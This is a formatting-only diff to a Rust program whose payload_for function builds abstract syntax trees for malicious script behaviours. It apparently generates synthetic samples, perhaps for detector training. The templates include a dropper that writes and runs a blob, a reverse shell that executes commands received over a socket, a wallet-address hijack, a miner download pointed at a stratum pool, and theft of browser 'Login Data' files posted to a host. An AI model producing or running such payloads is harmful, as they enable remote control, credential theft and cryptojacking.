@@ -210,7 +210,10 @@ fn payload_for(behavior: Behavior, name: &str, rng: &mut impl Rng) -> (Vec<Stmt>
                     Stmt::Expr(Expr::mcall(
                         "os",
                         "write_file",
-                        vec![Expr::name("path"), Expr::attr(Expr::name("blob"), "content")],
+                        vec![
+                            Expr::name("path"),
+                            Expr::attr(Expr::name("blob"), "content"),
+                        ],
                     )),
                     Stmt::Expr(Expr::mcall("subprocess", "run", vec![Expr::name("path")])),
                 ],
@@ -225,14 +228,20 @@ fn payload_for(behavior: Behavior, name: &str, rng: &mut impl Rng) -> (Vec<Stmt>
                     assign("sock", Expr::mcall("socket", "socket", vec![])),
                     Stmt::Expr(Expr::call(
                         Expr::attr(Expr::name("sock"), "connect"),
-                        vec![Expr::str(host.clone()), Expr::Int(rng.gen_range(1024..65535))],
+                        vec![
+                            Expr::str(host.clone()),
+                            Expr::Int(rng.gen_range(1024..65535)),
+                        ],
                     )),
                     Stmt::While {
                         cond: Expr::Bool(true),
                         body: vec![
                             assign(
                                 "cmd",
-                                Expr::call(Expr::attr(Expr::name("sock"), "recv"), vec![Expr::Int(1024)]),
+                                Expr::call(
+                                    Expr::attr(Expr::name("sock"), "recv"),
+                                    vec![Expr::Int(1024)],
+                                ),
                             ),
                             Stmt::Expr(Expr::mcall("subprocess", "run", vec![Expr::name("cmd")])),
                         ],
@@ -246,7 +255,10 @@ fn payload_for(behavior: Behavior, name: &str, rng: &mut impl Rng) -> (Vec<Stmt>
                 name,
                 vec![],
                 vec![
-                    assign("wallet", Expr::str(format!("1Hijack{}", rng.gen_range(1000..9999)))),
+                    assign(
+                        "wallet",
+                        Expr::str(format!("1Hijack{}", rng.gen_range(1000..9999))),
+                    ),
                     Stmt::While {
                         cond: Expr::Bool(true),
                         body: vec![
@@ -275,7 +287,10 @@ fn payload_for(behavior: Behavior, name: &str, rng: &mut impl Rng) -> (Vec<Stmt>
                 name,
                 vec![],
                 vec![
-                    assign("miner", Expr::mcall("requests", "get", vec![Expr::str(url)])),
+                    assign(
+                        "miner",
+                        Expr::mcall("requests", "get", vec![Expr::str(url)]),
+                    ),
                     assign("pool", Expr::str(format!("stratum://{host}:3333"))),
                     Stmt::Expr(Expr::mcall(
                         "subprocess",
@@ -296,17 +311,16 @@ fn payload_for(behavior: Behavior, name: &str, rng: &mut impl Rng) -> (Vec<Stmt>
                 vec![
                     assign(
                         "paths",
-                        Expr::mcall(
-                            "glob",
-                            "glob",
-                            vec![Expr::str("~/.config/*/Login Data")],
-                        ),
+                        Expr::mcall("glob", "glob", vec![Expr::str("~/.config/*/Login Data")]),
                     ),
                     Stmt::For {
                         var: "p".into(),
                         iter: Expr::name("paths"),
                         body: vec![
-                            assign("loot", Expr::mcall("os", "read_file", vec![Expr::name("p")])),
+                            assign(
+                                "loot",
+                                Expr::mcall("os", "read_file", vec![Expr::name("p")]),
+                            ),
                             Stmt::Expr(Expr::mcall(
                                 "requests",
                                 "post",
@@ -626,17 +640,13 @@ fn visit_exprs_mut(stmt: &mut Stmt, f: &mut impl FnMut(&mut Expr) -> bool) -> bo
             return true;
         }
         match e {
-            Expr::Call { callee, args } => {
-                expr(callee, f) || args.iter_mut().any(|a| expr(a, f))
-            }
+            Expr::Call { callee, args } => expr(callee, f) || args.iter_mut().any(|a| expr(a, f)),
             Expr::Attribute { value, .. } => expr(value, f),
             Expr::Index { value, index } => expr(value, f) || expr(index, f),
             Expr::Binary { lhs, rhs, .. } => expr(lhs, f) || expr(rhs, f),
             Expr::Unary { operand, .. } => expr(operand, f),
             Expr::List(items) => items.iter_mut().any(|i| expr(i, f)),
-            Expr::Dict(pairs) => pairs
-                .iter_mut()
-                .any(|(k, v)| expr(k, f) || expr(v, f)),
+            Expr::Dict(pairs) => pairs.iter_mut().any(|(k, v)| expr(k, f) || expr(v, f)),
             _ => false,
         }
     }
@@ -691,10 +701,9 @@ fn first_defined_name(module: &Module) -> Option<String> {
 fn rename_everywhere(module: &mut Module, old: &str, fresh: &str) {
     fn in_expr(e: &mut Expr, old: &str, fresh: &str) {
         match e {
-            Expr::Name(n)
-                if n == old => {
-                    *n = fresh.to_owned();
-                }
+            Expr::Name(n) if n == old => {
+                *n = fresh.to_owned();
+            }
             Expr::Call { callee, args } => {
                 in_expr(callee, old, fresh);
                 for a in args {
